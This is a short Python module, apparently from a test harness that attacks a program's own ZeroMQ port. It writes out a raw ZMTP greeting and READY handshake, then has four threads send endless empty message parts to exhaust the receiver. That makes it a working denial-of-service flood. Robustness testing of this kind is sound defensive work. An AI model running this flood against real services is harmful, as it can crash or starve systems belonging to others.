"""A ZMQ message of empty parts that never ends."""

from .arena import Attack, Target, connect, in_threads, split_address, strike_from_command_line

ATTACK = Attack("ZMQ parts", "4 messages of empty parts without end", ("--groot-zmq-port", "0"))
# rfc.zeromq.org/spec/23: signature, version 3.0, mechanism NULL, padding; then READY
GREETING = b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"NULL".ljust(20, b"\0") + bytes(32)
READY = b"\x05READY\x0bSocket-Type\x00\x00\x00\x06DEALER"
MORE = b"\x01\x00"  # an empty part that more follow


def strike(target: Target) -> None:
    """Send parts as fast as they are taken."""
    assert split_address(target.zmq)

    def flood(number: int) -> None:
        with connect(target.zmq) as peer:
            peer.sendall(GREETING + b"\x04" + bytes([len(READY)]) + READY)
            while True:
                peer.sendall(MORE * 32768)

    in_threads(4, flood)


if __name__ == "__main__":
    strike_from_command_line(strike)
